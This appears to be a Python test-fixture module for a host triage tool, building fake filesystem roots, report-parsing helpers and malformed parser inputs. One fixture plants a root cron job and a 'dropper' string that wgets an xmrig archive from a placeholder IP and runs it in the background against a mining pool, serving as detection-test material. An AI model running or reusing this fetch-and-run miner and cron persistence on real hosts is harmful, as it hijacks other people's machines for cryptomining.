"""Fixture hosts for the per-item fail-soft and unprivileged-run tests (issue 10, points 3-4).

A fixture root is a directory tree given with --root, and an empty directory given with
--proc, so a triage reads only what the test planted. Nothing here is a real miner: the
"dropper" is text built from public indicator strings and a synthetic wallet.
"""

import json
import os
import subprocess
import zipfile
from pathlib import Path
from typing import Any

from tests.hostfixtures import write_tree
from tests.minersample import synthetic_monero_wallet
from tests.yarasamples import POOL

WALLET = synthetic_monero_wallet()
DROPPER = (
    "#!/bin/sh\n"
    "wget http://198.51.100.7/xmrig.tar.gz && tar xf xmrig.tar.gz\n"
    f"nohup ./xmrig -o stratum+tcp://{POOL}:3333 -u {WALLET} --donate-level 1 >/dev/null 2>&1 &\n"
)
MINER_CRON = "*/5 * * * * root /opt/.x/start.sh\n"
BAD_NAME = b"etc/cron.d/job\xff"
"""A cron file whose name is not UTF-8; it sorts before the miner's cron file."""


def miner_root(base: Path, *, cron: str = "etc/cron.d/miner") -> Path:
    """A root whose cron runs a dropper script that YARA flags (critical/high) and that
    names a pool and a wallet; an empty `proc/` beside it serves as --proc."""
    write_tree(
        base,
        {
            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
            cron: MINER_CRON,
            "opt/.x/start.sh": DROPPER,
        },
    )
    (base / "proc").mkdir(exist_ok=True)
    return base


def clean_root(base: Path) -> Path:
    write_tree(
        base,
        {
            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
            "etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        },
    )
    (base / "proc").mkdir(exist_ok=True)
    return base


def plant_bytes_name(base: Path, rel: bytes, content: bytes) -> None:
    with open(os.fsencode(base) + b"/" + rel, "wb") as handle:
        handle.write(content)


def triage_args(root: Path, out: Path) -> list[str]:
    return ["triage", "--root", str(root), "--proc", str(root / "proc"), "-o", str(out), "--json"]


def json_report(proc: subprocess.CompletedProcess[bytes]) -> dict[str, Any]:
    report: dict[str, Any] = json.loads(proc.stdout)
    return report


def serious(report: dict[str, Any]) -> set[tuple[str, str | None]]:
    """(severity, rule or title) of the critical and high findings."""
    return {
        (f["severity"], f.get("rule") or f["title"])
        for f in report["findings"]
        if f["severity"] in ("critical", "high")
    }


def iocs(report: dict[str, Any]) -> set[tuple[str, str]]:
    return {(i["ioc_type"], i["value"]) for i in report["iocs"]}


def bundle_json(bundle: Path, member: str) -> Any:
    with zipfile.ZipFile(bundle) as archive:
        return json.loads(archive.read(member))


def bundle_lines(bundle: Path, member: str) -> list[dict[str, Any]]:
    with zipfile.ZipFile(bundle) as archive:
        raw = archive.read(member)
    return [json.loads(line) for line in raw.splitlines() if line]


HOSTILE_TOKENS: tuple[bytes, ...] = (
    b"\xff",
    b"\0",
    b"9" * 5000,
    b"-1",
    b"18446744073709551616",
    b"\n",
    b"\r",
    b"\\\n",
    b"=",
    b":",
    b",",
    b"[",
    b"]",
    b'"',
    b"'",
    b"#",
    b"@",
    b" ",
    b"\t",
    "\u2028".encode(),
    "\uff19".encode(),  # a fullwidth 9: str.isdigit() says yes
    "\u202e".encode(),
    b"\xed\xb2\x80",  # an encoded surrogate, which strict UTF-8 refuses
)
"""What a crafted host file holds where a parser expects something tidy."""
